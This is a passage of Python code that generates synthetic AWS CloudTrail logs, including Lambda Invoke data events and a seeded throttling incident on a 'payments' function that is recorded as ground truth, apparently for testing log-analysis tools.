                day = (START + dt.timedelta(hours=hour)).strftime("%Y/%m/%d")
                path = (
                    self.out
                    / trail
                    / "AWSLogs"
                    / ACCOUNT
                    / "CloudTrail"
                    / REGION
                    / day
                    / f"{ACCOUNT}_CloudTrail_{REGION}_{stamp}_{bits.getrandbits(32):08X}.json.gz"
                )
                self._emit(path, json.dumps({"Records": chunk}).encode(), compress=True)

        write_trail("cloudtrail", records, rng)
        self._write_invoke_data_events(write_trail)

    def _write_invoke_data_events(
        self, write_trail: Callable[[str, list[dict[str, Any]], random.Random], None]
    ) -> None:
        """Lambda ``Invoke`` data events (LOG020), in a trail of their own.

        Ordinary successful calls at a low rate (service-to-service invokes of ``payments``
        and ``report-export``) and one throttling burst against ``payments``, recorded as a
        LOG020 incident. Data events usually go to a dedicated trail; here that also keeps the
        management files, and the record indices their evidence names, as they were. The
        events draw from their own generator (seeded from the run's seed), so neither the
        Lambda logs nor the management events move.
        """
        rng = random.Random(f"invoke-data-events-{self.seed}")
        records: list[dict[str, Any]] = []
        caller = f"arn:aws:sts::{ACCOUNT}:assumed-role/{EXEC_ROLE}/checkout"

        def invoke(at: dt.datetime, fn: str, form: int, throttled: bool = False) -> None:
            arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{fn}"
            # Every way callers name a function: name, qualified ARN, partial ARN, and no
            # request parameters at all (then only ``resources`` names it).
            names = (fn, f"{arn}:live", f"{ACCOUNT}:function:{fn}", None)
            name = names[form % len(names)]
            params = None if name is None else {"functionName": name}
            record: dict[str, Any] = {
                "eventVersion": "1.09",
                "userIdentity": {
                    "type": "AssumedRole",
                    "arn": caller,
                    "principalId": f"AROA{zlib.crc32(caller.encode()):012d}:checkout",
                    "accountId": ACCOUNT,
                },
                "eventTime": _iso_s(at),
                "eventSource": "lambda.amazonaws.com",
                "eventName": "Invoke",
                "awsRegion": REGION,
                "sourceIPAddress": "lambda.amazonaws.com",
                "userAgent": "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux lang/python#3.12",
                "requestParameters": params,
                "responseElements": None,
                "additionalEventData": {"functionVersion": f"{arn}:$LATEST"},
                "requestID": f"{rng.getrandbits(128):032x}",
                "eventID": f"{rng.getrandbits(128):032x}",
                "readOnly": False,
                "resources": [{"accountId": ACCOUNT, "type": "AWS::Lambda::Function", "ARN": arn}],
                "eventType": "AwsApiCall",
                "managementEvent": False,
                "recipientAccountId": ACCOUNT,
                "eventCategory": "Data",
            }
            if throttled:
                record["errorCode"] = "TooManyRequestsException"
                record["errorMessage"] = "Rate Exceeded."
            records.append(record)

        minutes = self.plan.minutes
        for m in range(minutes):
            for fn in ("payments", "report-export"):
                if rng.random() < 0.5:
                    invoke(_minute(m) + dt.timedelta(seconds=rng.randrange(60)), fn, m)
        m = int(minutes * rng.uniform(0.3, 0.9))
        m -= m % 5
        throttled = 30
        for index in range(throttled + 12):
            at = _minute(m + 1) + dt.timedelta(seconds=rng.randrange(180))
            invoke(at, "payments", index, throttled=index < throttled)
        self.incidents.append(
            Incident(
                "invocations-throttled",
                "LOG020",
                "payments",
                _minute(m),
                _minute(m + 5),
                f"{throttled} Invoke calls throttled (TooManyRequestsException)",
            )
        )
        write_trail("cloudtrail-data-events", records, rng)


def generate(out: Path, *, size: int, seed: int = 0, container: str = "mixed") -> dict[str, Any]:
    """Write generated logs of about ``size`` bytes (uncompressed) below ``out``.

    Returns the ground truth (also written to ``out/ground_truth.json``).
    """
    if container not in FORMATS:
        raise ValueError(f"unknown format '{container}' (expected one of: {', '.join(FORMATS)})")
    out.mkdir(parents=True, exist_ok=True)
    return _Generator(out, size, seed, container).run()
